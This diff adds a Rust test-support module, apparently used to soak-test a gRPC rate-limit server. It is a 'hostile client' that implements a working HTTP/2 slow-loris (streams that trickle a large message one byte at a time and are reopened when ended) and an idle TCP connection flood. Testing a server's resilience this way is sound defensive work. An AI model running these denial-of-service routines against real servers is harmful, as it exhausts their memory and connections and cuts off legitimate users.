@@ -1,0 +1,264 @@
+//! A hostile client, for the tests and the soak script (`scripts/abuse.py`): what one
+//! unauthenticated peer can do to a gRPC server's memory and file descriptors.
+//!
+//! - [`slow_loris`]: HTTP/2 connections, each with many streams that announce a large gRPC
+//!   message, send most of it, then trickle one byte at a time so the message never
+//!   completes (issue 15, break 1). A stream the server ends is opened again at once, as an
+//!   attacker would.
+//! - [`idle_flood`]: raw TCP connections that never send a byte, re-opened as soon as the
+//!   server closes them (issue 15, break 3).
+//!
+//! Both report what the server did to them; neither decides anything about the server.
+
+use std::net::SocketAddr;
+use std::sync::Arc;
+use std::sync::atomic::{AtomicU64, Ordering};
+use std::time::{Duration, Instant};
+
+use bytes::Bytes;
+use serde::Serialize;
+use tokio::net::TcpStream;
+use tokio::task::JoinSet;
+
+/// `POST` path of every slow-loris stream.
+const SHOULD_RATE_LIMIT: &str = "/envoy.service.ratelimit.v3.RateLimitService/ShouldRateLimit";
+const CHUNK: usize = 16 << 10;
+const CONNECT_TIMEOUT: Duration = Duration::from_secs(2);
+
+#[derive(Debug, Clone)]
+pub struct SlowLoris {
+    pub target: SocketAddr,
+    pub connections: usize,
+    pub streams_per_connection: usize,
+    /// The gRPC message length each stream announces in its 5-byte prefix.
+    pub announce_bytes: u32,
+    /// How much of it is sent at once (the rest trickles).
+    pub send_bytes: usize,
+    /// One byte per this long after the first `send_bytes`.
+    pub trickle_every: Duration,
+    pub duration: Duration,
+}
+
+/// What the slow-loris managed; counts over the whole run.
+#[derive(Debug, Default, Serialize)]
+pub struct SlowLorisReport {
+    pub connections_opened: u64,
+    pub connection_failures: u64,
+    pub streams_opened: u64,
+    /// Streams the server answered or reset before the run ended (the bounds at work).
+    pub streams_ended_by_server: u64,
+    pub bytes_sent: u64,
+}
+
+#[derive(Default)]
+struct LorisCounters {
+    connections_opened: AtomicU64,
+    connection_failures: AtomicU64,
+    streams_opened: AtomicU64,
+    streams_ended_by_server: AtomicU64,
+    bytes_sent: AtomicU64,
+}
+
+/// Runs the slow-loris until `duration` has passed.
+pub async fn slow_loris(config: SlowLoris) -> SlowLorisReport {
+    let counters = Arc::new(LorisCounters::default());
+    let deadline = Instant::now() + config.duration;
+    let config = Arc::new(config);
+    let mut connections = JoinSet::new();
+    for _ in 0..config.connections {
+        connections.spawn(loris_connection(
+            Arc::clone(&config),
+            Arc::clone(&counters),
+            deadline,
+        ));
+    }
+    while connections.join_next().await.is_some() {}
+    let load = |c: &AtomicU64| c.load(Ordering::Relaxed);
+    SlowLorisReport {
+        connections_opened: load(&counters.connections_opened),
+        connection_failures: load(&counters.connection_failures),
+        streams_opened: load(&counters.streams_opened),
+        streams_ended_by_server: load(&counters.streams_ended_by_server),
+        bytes_sent: load(&counters.bytes_sent),
+    }
+}
+
+/// One connection slot: connect, run the streams, connect again if the server closed it.
+async fn loris_connection(config: Arc<SlowLoris>, counters: Arc<LorisCounters>, deadline: Instant) {
+    while Instant::now() < deadline {
+        let client = match connect_h2(config.target).await {
+            Ok(client) => client,
+            Err(()) => {
+                counters.connection_failures.fetch_add(1, Ordering::Relaxed);
+                tokio::time::sleep(Duration::from_millis(50)).await;
+                continue;
+            }
+        };
+        counters.connections_opened.fetch_add(1, Ordering::Relaxed);
+        let mut streams = JoinSet::new();
+        for _ in 0..config.streams_per_connection {
+            streams.spawn(loris_stream(
+                client.clone(),
+                Arc::clone(&config),
+                Arc::clone(&counters),
+                deadline,
+            ));
+        }
+        // Stop at the deadline even if a stream is stuck waiting for flow control.
+        let _ = tokio::time::timeout_at(deadline.into(), async {
+            while streams.join_next().await.is_some() {}
+        })
+        .await;
+    }
+}
+
+async fn connect_h2(target: SocketAddr) -> Result<h2::client::SendRequest<Bytes>, ()> {
+    let tcp = tokio::time::timeout(CONNECT_TIMEOUT, TcpStream::connect(target))
+        .await
+        .map_err(drop)?
+        .map_err(drop)?;
+    let (client, connection) = tokio::time::timeout(CONNECT_TIMEOUT, h2::client::handshake(tcp))
+        .await
+        .map_err(drop)?
+        .map_err(drop)?;
+    tokio::spawn(async move {
+        // Ends when the server closes the connection; the streams see it as errors.
+        let _ = connection.await;
+    });
+    Ok(client)
+}
+
+/// One stream slot: open a stream, push most of a large message, trickle the rest; open
+/// another when the server ends it. Returns when the connection is gone or time is up.
+async fn loris_stream(
+    mut client: h2::client::SendRequest<Bytes>,
+    config: Arc<SlowLoris>,
+    counters: Arc<LorisCounters>,
+    deadline: Instant,
+) {
+    while Instant::now() < deadline {
+        let Ok(ready) = client.clone().ready().await else {
+            return;
+        };
+        client = ready;
+        let request = http::Request::post(format!("http://{}{SHOULD_RATE_LIMIT}", config.target))
+            .header("content-type", "application/grpc")
+            .header("te", "trailers")
+            .body(());
+        let Ok(request) = request else { return };
+        let Ok((response, mut send)) = client.send_request(request, false) else {
+            return;
+        };
+        counters.streams_opened.fetch_add(1, Ordering::Relaxed);
+        let push = async {
+            let mut prefix = vec![0u8];
+            prefix.extend_from_slice(&config.announce_bytes.to_be_bytes());
+            send_all(&mut send, Bytes::from(prefix), &counters).await?;
+            let mut left = config.send_bytes;
+            while left > 0 {
+                let n = left.min(CHUNK);
+                send_all(&mut send, Bytes::from(vec![b'x'; n]), &counters).await?;
+                left -= n;
+            }
+            loop {
+                tokio::time::sleep(config.trickle_every).await;
+                send_all(&mut send, Bytes::from_static(b"x"), &counters).await?;
+            }
+            #[allow(unreachable_code)]
+            Ok::<(), ()>(())
+        };
+        tokio::select! {
+            // The server answered (an error, since the message never completes) or reset.
+            _ = response => {
+                counters.streams_ended_by_server.fetch_add(1, Ordering::Relaxed);
+            }
+            Err(()) = push => {
+                counters.streams_ended_by_server.fetch_add(1, Ordering::Relaxed);
+            }
+            () = tokio::time::sleep_until(deadline.into()) => return,
+        }
+    }
+}
+
+/// Sends `data` as flow control allows.
+async fn send_all(
+    send: &mut h2::SendStream<Bytes>,
+    mut data: Bytes,
+    counters: &LorisCounters,
+) -> Result<(), ()> {
+    while !data.is_empty() {
+        send.reserve_capacity(data.len());
+        let granted = std::future::poll_fn(|cx| send.poll_capacity(cx))
+            .await
+            .ok_or(())?
+            .map_err(drop)?;
+        let chunk = data.split_to(granted.min(data.len()));
+        let n = chunk.len() as u64;
+        send.send_data(chunk, false).map_err(drop)?;
+        counters.bytes_sent.fetch_add(n, Ordering::Relaxed);
+    }
+    Ok(())
+}
+
+#[derive(Debug, Clone)]
+pub struct IdleFlood {
+    pub target: SocketAddr,
+    /// Connections held open at once (from the client's side: the kernel's backlog counts).
+    pub connections: usize,
+    pub duration: Duration,
+}
+
+#[derive(Debug, Default, Serialize)]
+pub struct IdleFloodReport {
+    pub connects: u64,
+    pub connect_failures: u64,
+    /// Connections the server closed (the preface deadline at work).
+    pub closed_by_server: u64,
+    /// Seconds from the first connect to the first close by the server, if any.
+    pub first_close_after_s: Option<f64>,
+}
+
+/// Holds `connections` silent TCP connections for `duration`, replacing each one the server
+/// closes.
+pub async fn idle_flood(config: IdleFlood) -> IdleFloodReport {
+    let start = Instant::now();
+    let deadline = start + config.duration;
+    let mut report = IdleFloodReport::default();
+    let mut held: Vec<Option<TcpStream>> = (0..config.connections).map(|_| None).collect();
+    while Instant::now() < deadline {
+        for slot in held.iter_mut() {
+            if let Some(stream) = slot
+                && closed_by_peer(stream)
+            {
+                report.closed_by_server += 1;
+                report
+                    .first_close_after_s
+                    .get_or_insert(start.elapsed().as_secs_f64());
+                *slot = None;
+            }
+            if slot.is_none() && Instant::now() < deadline {
+                match tokio::time::timeout(CONNECT_TIMEOUT, TcpStream::connect(config.target)).await
+                {
+                    Ok(Ok(stream)) => {
+                        report.connects += 1;
+                        *slot = Some(stream);
+                    }
+                    _ => report.connect_failures += 1,
+                }
+            }
+        }
+        tokio::time::sleep(Duration::from_millis(100)).await;
+    }
+    report
+}
+
+/// True once the peer closed or reset the connection (a read would not block).
+fn closed_by_peer(stream: &TcpStream) -> bool {
+    let mut buf = [0u8; 64];
+    match stream.try_read(&mut buf) {
+        Ok(0) => true,
+        // The server wrote something (HTTP/2 SETTINGS) and still holds the connection.
+        Ok(_) => false,
+        Err(error) => error.kind() != std::io::ErrorKind::WouldBlock,
+    }
+}
